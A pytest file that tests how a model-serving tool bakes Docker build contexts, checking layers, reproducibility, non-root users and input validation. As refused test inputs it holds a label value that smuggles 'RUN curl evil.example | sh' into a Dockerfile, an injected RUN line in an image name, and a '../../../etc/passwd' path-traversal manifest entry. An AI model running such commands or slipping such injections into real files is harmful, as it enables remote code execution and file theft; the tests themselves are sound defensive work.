"""A baked context has the version as its last layer, and lets nobody else write in it."""

import json
import re

import pytest

from serve_app.engine.registration.register import Candidate, register
from serve_app.errors import ArtifactRejected, ConfigError, Conflict, InvalidInput, NotFound
from serve_app.platforms.images.baked import BakeOptions, bake, write_context
from serve_app.platforms.images.dockerfile_checks import check_dockerfile
from serve_app.registry.store import Registry

IMAGE = f"registry.example/serve-app:0.1.0@sha256:{'b' * 64}"


def instructions(baked):
    return [
        line for line in baked.files["Dockerfile"].decode().splitlines() if not line.startswith("#")
    ]


def test_a_server_s_context_holds_a_registry_of_this_version_alone(registry, tmp_path):
    baked = bake(registry, ("logistic", 1), "serve", BakeOptions(IMAGE))
    write_context(baked, tmp_path / "image")
    inside = Registry(str(tmp_path / "image" / "model"))
    assert inside.models() == ["logistic"]
    assert inside.read("logistic", 1).files == registry.read("logistic", 1).files
    assert inside.manifest("logistic", 1) == registry.manifest("logistic", 1)
    lines = instructions(baked)
    assert lines[0] == f"ARG IMAGE={IMAGE}"
    assert 'ENV SERVE_APP_REGISTRY="/opt/serve-app/model"' in lines
    assert 'ENTRYPOINT ["tini", "--", "serve-app", "run"]' in lines
    (command,) = (line for line in lines if line.startswith("CMD "))
    assert json.loads(command[4:]) == ["logistic@1", "--host", "0.0.0.0"]


def test_a_device_s_context_holds_the_package_of_the_wheel(registry):
    baked = bake(registry, ("logistic", 1), "edge", BakeOptions(IMAGE))
    assert "model/logistic_1/__init__.py" in baked.files
    assert "model/logistic_1/data/compiled.npz" in baked.files
    (entry,) = (line for line in instructions(baked) if line.startswith("ENTRYPOINT "))
    assert json.loads(entry[11:]) == ["tini", "--", "python3", "-m", "logistic_1"]


@pytest.mark.parametrize("kind", ["edge", "serve"])
def test_the_model_is_the_only_layer(registry, kind):
    lines = instructions(bake(registry, ("logistic", 1), kind, BakeOptions(IMAGE)))
    last = max(number for number, line in enumerate(lines) if line.startswith("FROM"))
    assert [one for one in lines[last:] if re.match("RUN|COPY|ADD", one)] == [
        one for one in lines[last:] if one.startswith("COPY") and "/opt/serve-app/model" in one
    ]


@pytest.mark.parametrize("kind", ["edge", "serve"])
def test_the_same_version_makes_the_same_bytes(registry, kind):
    first, second = (bake(registry, ("logistic", 1), kind, BakeOptions(IMAGE)) for _ in range(2))
    assert first.files == second.files
    assert list(first.files) == sorted(first.files)


def test_a_baked_image_does_not_run_as_root_where_its_own_does_not(registry):
    for kind in ("edge", "serve"):
        text = bake(registry, ("logistic", 1), kind, BakeOptions(IMAGE)).files["Dockerfile"]
        assert "USER 0:0" not in text.decode().split("FROM ${IMAGE}\n")[-1]
        assert not [one for one in check_dockerfile(text.decode()) if one.key != "USER"]


@pytest.mark.parametrize("image", ["serve-app:0.1.0", f"a\nRUN b@sha256:{'0' * 64}"])
def test_an_image_is_named_by_its_digest(registry, image):
    with pytest.raises(InvalidInput, match="the image"):
        bake(registry, ("logistic", 1), "edge", BakeOptions(image))


def test_a_newline_in_a_label_is_refused(registry):
    options = BakeOptions(IMAGE, {"team": "a\nRUN curl evil.example | sh"})
    with pytest.raises(InvalidInput, match=r"the label team .* line break"):
        bake(registry, ("logistic", 1), "edge", options)


def test_dollars_and_quotes_in_a_label_stay_text(registry):
    options = BakeOptions(IMAGE, {"team": 'x" $IMAGE'})
    assert 'LABEL team="x\\" \\$IMAGE"' in instructions(
        bake(registry, ("logistic", 1), "serve", options)
    )


def test_a_manifest_that_names_a_file_elsewhere_is_refused(registry):
    path = "logistic/1/manifest.json"
    manifest = json.loads(registry._files.read(path))
    manifest["files"][0]["path"] = "../../../etc/passwd"
    registry._files.remove(path)
    registry._files.create(path, json.dumps(manifest).encode())
    for kind in ("edge", "serve"):
        with pytest.raises(ArtifactRejected, match="damaged"):
            bake(registry, ("logistic", 1), kind, BakeOptions(IMAGE))


def test_who_is_not_there_is_not_baked(registry):
    with pytest.raises(NotFound):
        bake(registry, ("nobody", 1), "serve", BakeOptions(IMAGE))


def test_what_its_library_serves_is_refused(registry, models):
    estimator, data = models["logistic"]
    register(registry, Candidate("native", estimator, data), compile="never")
    with pytest.raises(ConfigError, match="has no compiled form"):
        bake(registry, ("native", 1), "serve", BakeOptions(IMAGE))


def test_a_context_overwrites_nothing_unasked_and_leaves_no_file_of_another_version(
    registry, tmp_path
):
    baked = bake(registry, ("logistic", 1), "serve", BakeOptions(IMAGE))
    stale = tmp_path / "model" / "other" / "1" / "model.bin"
    stale.parent.mkdir(parents=True)
    stale.write_text("old")
    with pytest.raises(Conflict, match="is not empty; give --force"):
        write_context(baked, tmp_path)
    write_context(baked, tmp_path, force=True)
    assert not stale.exists()
    assert Registry(str(tmp_path / "model")).models() == ["logistic"]
